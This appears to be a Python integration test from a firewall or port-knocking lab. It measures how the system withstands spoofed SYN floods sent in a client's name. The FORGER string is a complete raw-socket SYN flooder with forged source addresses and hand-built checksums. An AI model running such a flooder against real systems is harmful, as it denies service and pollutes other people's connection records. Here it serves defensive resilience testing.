"""SYNs in the name of somebody whose hole is open, by one who does not see the answers.

The attacker knows an address from which a hole is open, and can send from it: so every SYN of
theirs finds the hole. They want the record full of connections that its owner never made, other
people's knocks unheard, and a hole for one connection used up before its owner comes. What they
cannot do is complete a handshake: the answers go to the owner.
"""

import re
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Final

from integration.attacks import Figure
from integration.lab import Host, Lab, Reach, echoes, reached
from integration.site import Person, Site

SSH: Final = 22
VOTE: Final = 7000
HEAVY: Final = 30_000
MODERATE: Final = 5_000
LIGHT: Final = 1_000
TRIES: Final = 5
WITHIN_S: Final = 3.0  # a SYN is repeated after one

# What a host behind any firewall does with an answer to what it never sent: nothing.
DEAF: Final = """
table inet own {
  chain in {
    type filter hook input priority 0
    ct state invalid drop
  }
}
"""

FORGER: Final = """
import itertools, socket, struct, sys, time
source, target, port, rate = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
ends = socket.inet_aton(source) + socket.inet_aton(target)

def folded(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return (total & 0xFFFF) + (total >> 16)

def syn(source_port, number):
    tcp = struct.pack(">HHIIBBHHH", source_port, port, number, 0, 5 << 4, 2, 64240, 0, 0)
    check = 0xFFFF & ~folded(ends + struct.pack(">HH", 6, 20) + tcp)
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + ends
    return ip + tcp[:16] + struct.pack(">H", check) + tcp[18:]

made = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
syns = [syn(source_port, source_port * 65_521) for source_port in range(1024, 65_536)]
began, sent = time.monotonic(), 0
print("forging", flush=True)
for each in itertools.cycle(syns):
    made.sendto(each, (target, 0))
    sent += 1
    if sent % 50 == 0 and (ahead := sent / rate - (time.monotonic() - began)) > 0:
        time.sleep(ahead)
"""


@contextmanager
def forging(at: Host, source: Host, target: Host, port: int, rate: int) -> Iterator[None]:
    """So many SYNs a second from the address of `source`, each from the next of 64,512 ports."""
    where = (str(source.v4), str(target.v4), str(port), str(rate))
    forger = at.start([sys.executable, "-c", FORGER, *where])
    forger.wait_for("forging")
    try:
        yield
    finally:
        forger.stop()


def run(lab: Lab) -> Iterator[Figure]:
    """Against an open hole at 30,000 a second, then `once` holes at 1,000 and 5,000."""
    server, client, neighbour, eve = map(lab.host, ("server", "client", "neighbour", "eve"))
    client.run(["nft", "-f", "-"], text=DEAF)
    for port in (SSH, VOTE):
        server.serve(port)
    site = Site(lab, server)
    alice, bob = site.enrol("alice", "ops", "voter"), site.enrol("bob", "ops")
    site.apply_gate()
    site.start()
    alice.knock(client, "tcp/22", "--lifetime", "10m")
    with forging(eve, client, server, SSH, HEAVY):
        before_kb = size_kb(site.directory)
        heard = tries(lambda: hears(bob, neighbour))
    permitted = site.events("connection.permitted")
    lost = sum(line["detail"]["count"] for line in site.events("records.lost"))
    yield Figure("lines of connections that alice never made", len(permitted), permitted == [])
    yield Figure("messages of the kernel's lost", lost, lost == 0)
    yield Figure(f"of {TRIES} knocks of somebody else unheard", TRIES - heard, heard == TRIES)
    grown_kb = size_kb(site.directory) - before_kb
    yield Figure("KB more on disk", grown_kb, grown_kb < 1000)
    entries = half_open(server)
    yield Figure("entries of conntrack taken", entries, entries < 20_000)
    for rate in (LIGHT, MODERATE):
        with forging(eve, client, server, VOTE, rate):
            connects = tries(lambda: connects_once(alice, client, server))
        what = f"of {TRIES} connections by a once hole not had by its owner, at {rate:,} SYNs/s"
        yield Figure(what, TRIES - connects, connects == TRIES)
    owned = site.audit("--event", "connection.permitted", "--limit", "1000")
    yield Figure("lines of what alice did", len(owned), len(owned) == 2 * TRIES)


def tries(attempt: Callable[[], bool]) -> int:
    """How many of them succeed."""
    return sum(attempt() for _ in range(TRIES))


def hears(person: Person, at: Host) -> bool:
    """Whether a knock is answered."""
    return person.knock(at, "tcp/22", check=False).returncode == 0


def connects_once(person: Person, at: Host, server: Host) -> bool:
    """Whether a hole for one connection gives its owner that one, and then no other."""
    if person.knock(at, f"tcp/{VOTE}", check=False).returncode:
        return False
    with at.connection(server.v4, VOTE) as first:
        came = reached(first, WITHIN_S) is Reach.OPEN and echoes(first, within_s=WITHIN_S)
        return came and at.reach_tcp(server.v4, VOTE) is Reach.SILENT


def size_kb(directory: Path) -> int:
    """Of the files in a directory."""
    return sum(path.stat().st_size for path in directory.iterdir() if path.is_file()) // 1024


def half_open(server: Host) -> int:
    """Entries of a host's conntrack."""
    counted = re.search(r"\d+", server.run(["conntrack", "-C"]).stdout)
    return int(counted[0]) if counted else 0
